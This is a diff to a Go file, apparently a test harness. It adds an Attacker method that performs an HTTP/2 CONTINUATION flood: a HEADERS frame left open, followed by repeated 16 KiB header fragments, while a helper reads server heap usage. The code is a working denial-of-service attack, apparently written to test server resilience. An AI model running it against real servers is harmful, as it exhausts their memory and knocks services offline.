@@ -216,3 +216,22 @@ func LiveHeap() int64 {
 	runtime.ReadMemStats(&ms)
 	return int64(ms.HeapAlloc)
 }
+
+// ContinuationFlood sends a HEADERS frame for path on stream 1 without
+// END_HEADERS, then up to frames CONTINUATION frames, each about 16 KiB
+// of whole, valid header fields (the same fragment), until a write fails.
+// It returns the CONTINUATION frames sent, the fragment's length and the
+// write error.
+func (a *Attacker) ContinuationFlood(path string, frames int) (sent, fragLen int, err error) {
+	var frag bytes.Buffer
+	enc := hpack.NewEncoder(&frag)
+	field := hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 100), Sensitive: true}
+	for frag.Len() < 16000 {
+		_ = enc.WriteField(field)
+	}
+	err = a.Fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.RequestBlock(path), EndStream: true})
+	for ; err == nil && sent < frames; sent++ {
+		err = a.Fr.WriteContinuation(1, false, frag.Bytes())
+	}
+	return sent, frag.Len(), err
+}
